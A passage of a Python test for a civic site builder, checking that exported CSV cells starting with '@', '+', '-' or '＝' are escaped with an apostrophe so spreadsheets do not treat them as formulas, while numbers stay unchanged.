        content / "meetings/2025-06-25-lingshan-road.md",
        "title: 灵山村村道拓宽议事会",
        'title: "@灵山村村道拓宽议事会"',
    )
    site = tmp_path / "output"
    assert build_complete(site, content=content) == 0

    found = {path.name: read_csv(site, path.stem) for path in (site / "data").glob("*.csv")}

    board_csvs = [urls.save_as(t.path).removeprefix("data/") for t in board.TABLES]
    ledger_csvs = ["meetings.csv", "milestones.csv", "outcomes.csv", "projects.csv"]
    assert sorted(found) == sorted([*ledger_csvs, *board_csvs])
    cells = [c for table in found.values() for row in table for c in row]
    assert [c for c in cells if FORMULA.match(c)] == []
    projects = {row[0]: row for row in found["projects.csv"]}
    outcomes = {row[0]: row for row in found["outcomes.csv"]}
    assert ["tongjianhu-pocket-park", "'+开工"] == [
        found["milestones.csv"][6][0],
        found["milestones.csv"][6][5],
    ]
    assert {row[0]: row for row in found["meetings.csv"]}["2025-06-25-lingshan-road"][2][:2] == "'@"
    assert (
        "'" + PLACE in projects["yuquan-elevator"]
        and "'" + PLACE in outcomes["2025-05-28-elevator-pool"]
    )
    assert "'" + TITLE in projects["yuquan-elevator"]
    assert "'-加装电梯；老旧小区改造" in projects["yuquan-elevator"]
    assert "'＝3号楼加装电梯纳入民心项目池" in outcomes["2025-05-28-elevator-pool"]
    assert "720000" in projects["yuquan-elevator"]  # a number stays a number
    assert "'" + PLACE in {row[0] for row in found["board-meetings.csv"]}  # the board's too
